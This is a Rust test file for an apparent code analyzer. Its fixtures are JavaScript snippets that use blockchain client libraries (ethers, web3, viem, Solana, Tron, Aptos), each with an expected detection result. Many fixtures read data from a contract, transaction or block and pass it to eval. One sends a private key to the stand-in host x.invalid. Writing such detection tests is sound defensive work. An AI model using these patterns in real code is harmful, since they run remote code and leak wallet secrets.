//! Libraries of block chains: what a contract holds can decide what runs.

use super::Seen::{Evaluated, Nothing, Sent};
use super::check;

#[test]
fn ethers() {
    check(&[
        (
            r#"const {ethers} = require("ethers"); const p = new ethers.JsonRpcProvider("https://x.invalid"); const c = new ethers.Contract("0x1", [], p); c.getString("0x2").then(s => eval(s))"#,
            Evaluated,
        ),
        (
            r#"import {Contract, JsonRpcProvider} from "ethers"; const c = new Contract("0x1", [], new JsonRpcProvider("https://x.invalid")); const s = await c.read(); new Function(s)()"#,
            Evaluated,
        ),
        (
            r#"const {ethers} = require("ethers"); const p = ethers.getDefaultProvider("mainnet"); p.getTransaction("0x1").then(t => eval(ethers.toUtf8String(t.data)))"#,
            Evaluated,
        ),
        (
            r#"const {ethers} = require("ethers"); const p = new ethers.providers.JsonRpcProvider("https://x.invalid"); p.getStorage("0x1", 0).then(s => eval(Buffer.from(s.slice(2), "hex").toString()))"#,
            Evaluated,
        ),
        (
            r#"const {ethers} = require("ethers"); const p = new ethers.JsonRpcProvider("https://x.invalid"); p.on("block", async n => { const b = await p.getBlock(n); eval(b.extraData) })"#,
            Evaluated,
        ),
        (
            r#"const {ethers} = require("ethers"); const c = new ethers.Contract("0x1", [], new ethers.JsonRpcProvider("https://x.invalid")); c.balanceOf("0x2").then(b => console.log(ethers.formatEther(b)))"#,
            Nothing,
        ),
        (
            r#"const {ethers} = require("ethers"); module.exports = async privateKey => { const w = new ethers.Wallet(privateKey, new ethers.JsonRpcProvider("https://x.invalid")); return w.sendTransaction({to: "0x1"}) }"#,
            Nothing,
        ),
        (
            r#"const {ethers} = require("ethers"); module.exports = async privateKey => { const p = new ethers.JsonRpcProvider("https://x.invalid"); return p.send("x", [privateKey]) }"#,
            Sent("x.invalid"),
        ),
        (
            r#"const {ethers} = require("ethers"); module.exports = async a => new ethers.Contract(a, [], new ethers.JsonRpcProvider("https://x.invalid")).symbol()"#,
            Nothing,
        ),
    ]);
}

#[test]
fn web3() {
    check(&[
        (
            r#"const Web3 = require("web3"); const w = new Web3("https://x.invalid"); const c = new w.eth.Contract([], "0x1"); c.methods.read().call().then(s => eval(s))"#,
            Evaluated,
        ),
        (
            r#"import {Web3} from "web3"; const w = new Web3(new Web3.providers.HttpProvider("https://x.invalid")); const t = await w.eth.getTransaction("0x1"); eval(w.utils.hexToUtf8(t.input))"#,
            Evaluated,
        ),
        (
            r#"const {Web3} = require("web3"); const w = new Web3("https://x.invalid"); w.eth.getPastLogs({}).then(([l]) => eval(l.data))"#,
            Evaluated,
        ),
        (
            r#"const {Web3} = require("web3"); const w = new Web3("https://x.invalid"); w.eth.getBalance("0x1").then(b => console.log(b))"#,
            Nothing,
        ),
        (
            r#"import {createPublicClient, http} from "viem"; const c = createPublicClient({transport: http("https://x.invalid")}); eval(await c.readContract({address: "0x1"}))"#,
            Evaluated,
        ),
    ]);
}

#[test]
fn solana() {
    check(&[
        (
            r#"const {Connection, PublicKey} = require("@solana/web3.js"); const c = new Connection("https://x.invalid"); c.getAccountInfo(new PublicKey("1")).then(a => eval(a.data.toString()))"#,
            Evaluated,
        ),
        (
            r#"import * as web3 from "@solana/web3.js"; const c = new web3.Connection(web3.clusterApiUrl("mainnet-beta")); const [s] = await c.getSignaturesForAddress(new web3.PublicKey("1")); eval(Buffer.from(s.memo, "base64").toString())"#,
            Evaluated,
        ),
        (
            r#"import {Connection} from "@solana/web3.js"; const t = await new Connection("https://x.invalid").getTransaction("1"); eval(t.meta.logMessages.join(""))"#,
            Evaluated,
        ),
        (
            r#"const {Connection, Keypair} = require("@solana/web3.js"); module.exports = secretKey => new Connection("https://x.invalid").sendTransaction({}, [Keypair.fromSecretKey(secretKey)])"#,
            Nothing,
        ),
        (
            r#"import {createSolanaRpc} from "@solana/kit"; const r = createSolanaRpc("https://x.invalid"); const a = await r.getAccountInfo("1").send(); eval(a.value.data[0])"#,
            Evaluated,
        ),
        (
            r#"const {TronWeb} = require("tronweb"); const t = new TronWeb({fullHost: "https://x.invalid"}); t.trx.getTransaction("1").then(r => eval(r.raw_data.data))"#,
            Evaluated,
        ),
        (
            r#"const {AptosClient} = require("aptos"); new AptosClient("https://x.invalid").getAccountResources("1").then(r => eval(r[0].data))"#,
            Evaluated,
        ),
    ]);
}
